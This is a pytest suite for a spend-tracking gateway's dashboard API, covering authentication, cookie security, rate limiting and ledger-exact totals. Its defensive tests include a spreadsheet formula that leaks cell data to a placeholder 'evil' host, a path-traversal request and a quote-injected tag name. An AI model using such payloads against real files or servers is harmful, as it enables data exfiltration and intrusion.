"""The dashboard's JSON/CSV API: who may read it, and that every view's numbers
are the ledger's own (exact `dsum` over the same events)."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest

from spendgate.app import Gateway
from spendgate.config import Config
from spendgate.ledger.events import UsageEvent

ADMIN = "sk-admin-dashboard-test"
VIEWER = "sk-viewer-dashboard-test"
VIRTUAL = "sk-team-search-virtual"
VIEWS = ("summary", "spend_over_time", "daily_spend", "budgets", "cache", "tier_mix", "untagged", "top_drivers", "unit_economics", "slos", "alerts")


def known_events(now: float) -> list[UsageEvent]:
    """A fixed mix over the last ten days: teams, features, users, models, prompts,
    cache hits and untagged calls, with costs that do not add up exactly as floats."""
    teams = ["search", "support", None]
    features = ["chat", "summarize", None]
    models = ["gpt-4o", "gpt-4o-mini", "claude-haiku-4-5"]
    out = []
    for i in range(90):
        hit = i % 9 == 0
        out.append(
            UsageEvent(
                request_id=f"req-{i}",
                ts_start=now - 3600 - i * 2.5 * 3600,  # every 2.5 h back from an hour ago: ~9.4 days
                ts_end=now - 3600 - i * 2.5 * 3600 + 1,
                endpoint="chat.completions",
                provider="openai",
                deployment=models[i % 3],
                model_requested=models[i % 3],
                model_used=models[i % 3],
                status="error" if i % 17 == 5 else "ok",
                team=teams[i % 3],
                feature=features[(i // 3) % 3],
                environment="prod" if i % 2 else "staging",
                user=f"user-{i % 5}",
                tenant=f"tenant-{i % 2}",
                session_id=f"s-{i // 4}",
                prompt_template=f"tpl-{i % 4}",
                prompt_version=f"v{i % 2}",
                input_tokens=100 + i,
                output_tokens=20 + i,
                cost=Decimal("0") if hit else Decimal(f"0.{(i * 7919) % 100000:05d}1"),
                list_cost=Decimal(f"0.{(i * 7919) % 100000:05d}1"),
                saved=Decimal(f"0.{(i * 7919) % 100000:05d}1") if hit else Decimal(0),
                saved_by="cache" if hit else None,
                cache_status="exact" if hit else "miss",
            )
        )
    return out


def config(tmp: Path, **extra: Any) -> Config:
    return Config.model_validate(
        {
            "ledger": {"url": f"sqlite:///{tmp / 'ledger.db'}", "flush_interval_ms": 20},
            "state": {"url": f"sqlite:///{tmp / 'state.db'}"},
            "keys": [{"key": VIRTUAL, "id": "search", "tags": {"team": "search"}}],
            "admin": {"key_env": "TEST_DASH_ADMIN_KEY"},
            "deployments": [
                {"name": "sim-mini", "provider": "openai", "model": "gpt-4o-mini", "base_url": "simulator"},
                {"name": "sim-4o", "provider": "openai", "model": "gpt-4o", "base_url": "simulator"},
                {"name": "sim-haiku", "provider": "anthropic", "model": "claude-haiku-4-5", "base_url": "simulator"},
            ],
            "routing": {"tiers": {"small": ["gpt-4o-mini", "claude-haiku-4-5"], "flagship": ["gpt-4o"]}},
            "budgets": [{"name": "company", "scope": {}, "window": {"period": "month"}, "limit": "500"}],
            "dashboard": {"viewers": [{"name": "finance", "key_env": "TEST_DASH_VIEWER_KEY"}]},
            **extra,
        }
    )


@pytest.fixture
async def gw(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[tuple[Gateway, httpx.AsyncClient]]:
    monkeypatch.setenv("TEST_DASH_ADMIN_KEY", ADMIN)
    monkeypatch.setenv("TEST_DASH_VIEWER_KEY", VIEWER)
    gateway = Gateway(config(tmp_path))
    await gateway.startup()
    gateway.writer.store.append(known_events(time.time()))
    client = httpx.AsyncClient(transport=httpx.ASGITransport(app=gateway), base_url="http://gw")
    try:
        yield gateway, client
    finally:
        await client.aclose()
        await gateway.shutdown()


def dsum(gateway: Gateway, where: str = "1=1", params: tuple[Any, ...] = (), column: str = "cost") -> Decimal:
    """The ledger's own exact sum. Compared as a Decimal: the rollups drop trailing
    zeros ('0.50' is '0.5'), the value is the same to the last digit."""
    (value,) = gateway.writer.store.query(f"SELECT coalesce(dsum({column}), '0') FROM usage_events WHERE {where}", params)[0]
    return Decimal(value)


def auth(key: str = VIEWER) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


# ---- auth --------------------------------------------------------------------


async def test_no_key_a_wrong_key_or_a_virtual_key_gets_401_json_and_the_page_a_login(gw: Any) -> None:
    _, client = gw
    for headers in ({}, auth("sk-wrong"), auth(VIRTUAL)):
        r = await client.get("/dashboard/api/summary", headers=headers)
        assert r.status_code == 401 and r.json()["error"]["type"] == "authentication_error"
        r = await client.get("/dashboard/api/summary.csv", headers=headers)
        assert r.status_code == 401
    r = await client.get("/dashboard")
    assert r.status_code == 303 and r.headers["location"] == "/dashboard/login"
    page = await client.get("/dashboard/login")
    assert page.status_code == 200 and 'name="key"' in page.text and VIEWER not in page.text


async def test_admin_and_viewer_keys_read_but_a_viewer_cannot_write_or_open_admin(gw: Any) -> None:
    _, client = gw
    for key in (ADMIN, VIEWER):
        assert (await client.get("/dashboard/api/summary", headers=auth(key))).status_code == 200
    assert (await client.post("/dashboard/api/summary", headers=auth(VIEWER))).status_code == 405
    assert (await client.get("/admin/budgets", headers=auth(VIEWER))).status_code == 401
    assert (await client.get("/admin/budgets", headers=auth(ADMIN))).status_code == 200


async def test_browser_login_sets_an_httponly_strict_cookie_that_is_not_the_key(gw: Any) -> None:
    _, client = gw
    bad = await client.post("/dashboard/login", data={"key": "nope"})
    assert bad.status_code == 401 and "does not open" in bad.text and "set-cookie" not in bad.headers
    r = await client.post("/dashboard/login", data={"key": VIEWER})
    assert r.status_code == 303 and r.headers["location"] == "/dashboard"
    cookie = r.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and VIEWER not in cookie
    token = cookie.split(";")[0].split("=", 1)[1]
    client.cookies.clear()  # send only what each step names
    jar = {"Cookie": f"spendgate_dashboard={token}"}
    page = await client.get("/dashboard", headers=jar)
    assert page.status_code == 200 and "finance" in page.text and "/dashboard/static/vendor/chart.umd.min.js" in page.text
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assert (await client.get("/dashboard/api/summary", headers=jar)).status_code == 200
    forged = token[:-4] + ("0000" if not token.endswith("0000") else "1111")
    assert (await client.get("/dashboard/api/summary", headers={"Cookie": f"spendgate_dashboard={forged}"})).status_code == 401


async def test_static_files_and_vendored_chartjs_are_served_from_the_package(gw: Any) -> None:
    _, client = gw
    js = await client.get("/dashboard/static/vendor/chart.umd.min.js")
    assert js.status_code == 200 and "Chart.js v4" in js.text and js.headers["content-type"].startswith("text/javascript")
    assert (await client.get("/dashboard/static/vendor/chart.js.LICENSE.md")).status_code == 200
    assert (await client.get("/dashboard/static/../app.py")).status_code == 404


# ---- numbers -----------------------------------------------------------------


async def test_every_view_answers_json_and_the_same_table_as_csv(gw: Any) -> None:
    _, client = gw
    for view in VIEWS:
        r = await client.get(f"/dashboard/api/{view}", headers=auth(), params={"range": "30d"})
        assert r.status_code == 200, (view, r.text)
        body = r.json()
        c = await client.get(f"/dashboard/api/{view}.csv", headers=auth(), params={"range": "30d"})
        assert c.status_code == 200 and c.headers["content-type"].startswith("text/csv")
        assert f"spendgate-{view}.csv" in c.headers["content-disposition"]
        rows = list(csv.reader(io.StringIO(c.text)))
        assert rows[0] == [col["key"] for col in body["columns"]], view
        assert len(rows) - 1 == len(body["rows"]), view
        for line, row in zip(rows[1:], body["rows"]):
            assert line == ["" if row[k] is None else ("true" if row[k] is True else "false" if row[k] is False else str(row[k])) for k in rows[0]]
    slos = (await client.get("/dashboard/api/slos", headers=auth())).json()
    assert slos["status"] == "not_configured" and "slos" in slos["message"]


async def test_summary_and_spend_equal_the_ledgers_dsum_with_and_without_filters(gw: Any) -> None:
    gateway, client = gw
    s = (await client.get("/dashboard/api/summary", headers=auth(), params={"range": "30d"})).json()["rows"][0]
    assert Decimal(s["cost"]) == dsum(gateway) and Decimal(s["saved"]) == dsum(gateway, column="saved") and s["requests"] == 90
    f = (await client.get("/dashboard/api/summary", headers=auth(), params={"range": "30d", "team": "search", "feature": "chat"})).json()
    assert f["filters"] == {"team": "search", "feature": "chat"}
    assert Decimal(f["rows"][0]["cost"]) == dsum(gateway, "team = ? AND feature = ?", ("search", "chat"))
    assert f["rows"][0]["cost"] != s["cost"]
    u = (await client.get("/dashboard/api/summary", headers=auth(), params={"range": "30d", "team": "(untagged)"})).json()
    assert Decimal(u["rows"][0]["cost"]) == dsum(gateway, "team IS NULL")
    day = (await client.get("/dashboard/api/summary", headers=auth(), params={"range": "24h"})).json()
    assert Decimal(day["rows"][0]["cost"]) == dsum(gateway, "ts_start >= ?", (time.time() - 86400 + 60,))
    sot = (await client.get("/dashboard/api/spend_over_time", headers=auth(), params={"range": "30d", "stack_by": "team"})).json()
    for team in ("search", "support"):
        got = sum((Decimal(r["cost"]) for r in sot["rows"] if r["team"] == team), Decimal(0))
        assert got == dsum(gateway, "team = ?", (team,))
    assert {r["team"] for r in sot["rows"]} == {"search", "support", None}


async def test_daily_spend_has_a_trailing_average_and_a_forecast(gw: Any) -> None:
    gateway, client = gw
    d = (await client.get("/dashboard/api/daily_spend", headers=auth(), params={"range": "7d"})).json()
    assert len(d["rows"]) in (7, 8)
    total = sum((Decimal(r["cost"]) for r in d["rows"]), Decimal(0))
    first_day = d["rows"][0]["day"]
    assert total == dsum(gateway, "ts_start >= strftime('%s', ?)", (first_day,))
    assert all(r["avg_7d"] is not None for r in d["rows"])
    fc = d["forecast"]  # analytics.forecast's, the one the forecast alert uses
    assert Decimal(fc["month_to_date"]) == Decimal(fc["spent_to_date"]) == dsum(gateway, "ts_start >= ?", (fc["month_start"],))
    assert Decimal(fc["forecast"]) >= Decimal(fc["month_to_date"]) and fc["month"] == time.strftime("%Y-%m", time.gmtime(fc["month_start"]))


async def test_cache_tiers_untagged_drivers_and_unit_economics_match_the_ledger(gw: Any) -> None:
    gateway, client = gw
    get = lambda view, **p: client.get(f"/dashboard/api/{view}", headers=auth(), params={"range": "30d", **p})  # noqa: E731
    cache = (await get("cache")).json()
    exact = next(r for r in cache["rows"] if r["cache_status"] == "exact")
    assert exact["requests"] == 10 and Decimal(exact["saved"]) == dsum(gateway, "cache_status = 'exact'", column="saved")
    assert cache["hit_rate"] == "0.111111"
    tiers = {r["tier"]: r for r in (await get("tier_mix")).json()["rows"]}
    assert Decimal(tiers["flagship"]["cost"]) == dsum(gateway, "model_used = 'gpt-4o'")
    assert tiers["small"]["requests"] == 60
    untagged = (await get("untagged")).json()
    team_row = next(r for r in untagged["rows"] if r["tag"] == "team")
    assert Decimal(team_row["untagged_cost"]) == dsum(gateway, "team IS NULL")
    assert Decimal(untagged["rows"][-1]["untagged_cost"]) == dsum(gateway, "team IS NULL OR feature IS NULL")
    users = (await get("top_drivers", dim="user")).json()["rows"]
    assert Decimal(users[0]["cost"]) == max(dsum(gateway, "user = ?", (f"user-{i}",)) for i in range(5))
    prompts = (await get("top_drivers", dim="prompt")).json()
    assert [c["key"] for c in prompts["columns"]][:2] == ["prompt_template", "prompt_version"]
    ue = {r["feature"]: r for r in (await get("unit_economics")).json()["rows"]}
    chat = ue["chat"]
    assert Decimal(chat["cost"]) == dsum(gateway, "feature = 'chat'") and chat["requests"] == 30
    assert Decimal(chat["cost_per_request"]) == (Decimal(chat["cost"]) / 30).quantize(Decimal("1e-12"))
    assert chat["successes"] == 0 and chat["cost_per_success"] is None


async def test_budgets_show_spend_and_burst_grants(gw: Any) -> None:
    gateway, client = gw
    await gateway.controls.budgets.add_burst("company", {}, Decimal("50"), _in_a_day(), "launch week")
    b = (await client.get("/dashboard/api/budgets", headers=auth())).json()["rows"][0]
    assert b["budget"] == "company" and b["limit"] == "500" and b["burst"] == "50" and b["effective_limit"] == "550"
    assert "launch week" in b["bursts"]


async def test_bad_parameters_get_a_clear_400(gw: Any) -> None:
    _, client = gw
    for params, word in (({"range": "1y"}, "range"), ({"colour": "red"}, "colour"), ({"stack_by": "planet"}, "stack_by"), ({"since": "soon"}, "soon"), ({"dim": "x"}, "dim")):
        r = await client.get("/dashboard/api/summary", headers=auth(), params=params)
        assert r.status_code == 400 and word in r.json()["error"]["message"], params
    assert (await client.get("/dashboard/api/nope", headers=auth())).status_code == 404


async def test_windows_a_calendar_cannot_hold_or_too_long_to_draw_get_a_400(gw: Any) -> None:
    """Out-of-range dates and open-ended windows are refused quickly, not a 500 or a
    per-day table of millions of rows."""
    _, client = gw
    cases = (
        ({"since": "99999999d"}, "between"),
        ({"since": "0001-01-01"}, "between"),
        ({"since": "9999-12-30", "until": "9999-12-31T23:59:59Z"}, "between"),
        ({"since": "2026-01-01", "until": "2199-12-31"}, "at most"),
        ({"since": "3d", "until": "4d"}, "before until"),
        ({"since": "2190-01-01"}, "until defaults to now"),
        ({"team": ""}, "(untagged)"),
        ({"tag:bad name": "x"}, "letters, digits"),
    )
    for params, words in cases:
        for view in ("summary", "daily_spend", "spend_over_time"):
            r = await client.get(f"/dashboard/api/{view}", headers=auth(), params=params)
            assert r.status_code == 400 and words in r.json()["error"]["message"], (view, params, r.text)
    ok = await client.get("/dashboard/api/daily_spend", headers=auth(), params={"since": "2024-01-01", "until": "2026-12-31"})
    assert ok.status_code == 200 and len(ok.json()["rows"]) >= 365 * 2


async def test_a_disabled_dashboard_is_not_served(tmp_path: Path) -> None:
    gateway = Gateway(config(tmp_path, dashboard={"enabled": False}))
    client = httpx.AsyncClient(transport=httpx.ASGITransport(app=gateway), base_url="http://gw")
    assert (await client.get("/dashboard/login")).status_code == 404
    await client.aclose()


def _in_a_day() -> Any:
    from datetime import UTC, datetime, timedelta

    return datetime.now(UTC) + timedelta(days=1)


def test_the_dashboard_guide_quotes_the_example() -> None:
    import yaml

    root = Path(__file__).resolve().parent.parent
    example = yaml.safe_load((root / "examples" / "dashboard.yaml").read_text())
    guide = (root / "docs" / "dashboard.md").read_text()
    start = guide.index("```yaml\ndashboard:\n") + len("```yaml\n")
    assert yaml.safe_load(guide[start : guide.index("```", start)]) == {"dashboard": example["dashboard"]}
    assert Config.model_validate({**example, "dashboard": example["dashboard"]}).dashboard.viewers[0].key_env == "DASHBOARD_VIEWER_KEY"


def test_csv_cells_that_look_like_formulas_are_plain_text() -> None:
    """Tag values are chosen by callers: a CSV cell must never run as a spreadsheet formula."""
    from spendgate.dashboard.api import to_csv

    payload = {
        "columns": [{"key": "user", "type": "text"}, {"key": "cost", "type": "money"}],
        "rows": [{"user": '=HYPERLINK("http://evil/?"&A1,"x")', "cost": "-1.5"}, {"user": "alice", "cost": "2"}],
    }
    lines = to_csv(payload).decode().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(",-1.5")  # a negative amount stays a number
    assert lines[2] == "alice,2"


def test_sign_in_guessing_is_slowed_per_address_and_https_cookies_are_secure() -> None:
    from spendgate.dashboard.app import SignInFailures, _secure
    from spendgate.dashboard.auth import cookie_header

    failures = SignInFailures(limit=3, window_s=60)
    for t in (0.0, 1.0, 2.0):
        assert not failures.blocked("10.0.0.1", t)
        failures.add("10.0.0.1", t)
    assert failures.blocked("10.0.0.1", 3.0)
    assert not failures.blocked("10.0.0.2", 3.0)  # another address is not locked out
    assert not failures.blocked("10.0.0.1", 62.0)  # a minute later it may try again
    assert b"; Secure" in cookie_header("t", 60, secure=True)
    assert b"Secure" not in cookie_header("t", 60)
    assert _secure({"scheme": "http"}, {"x-forwarded-proto": "https"})
    assert not _secure({"scheme": "http"}, {})


async def test_any_free_form_tag_filters_the_dashboard(gw: Any) -> None:
    gateway, client = gw
    now = time.time()
    gateway.writer.store.append(
        [
            UsageEvent(event_id="tier-1", ts_start=now - 60, cost=Decimal("0.125"), tags={"customer_tier": "gold"}),
            UsageEvent(event_id="tier-2", ts_start=now - 30, cost=Decimal("0.5"), tags={"customer_tier": "gold"}),
        ]
    )
    r = await client.get("/dashboard/api/summary", params={"range": "7d", "tag:customer_tier": "gold"}, headers=auth())
    assert r.status_code == 200, r.text
    assert Decimal(r.json()["rows"][0]["cost"]) == Decimal("0.625") == dsum(gateway, "json_extract(tags, '$.customer_tier') = 'gold'")
    bad = await client.get("/dashboard/api/summary", params={"tag:a'b": "x"}, headers=auth())
    assert bad.status_code == 400
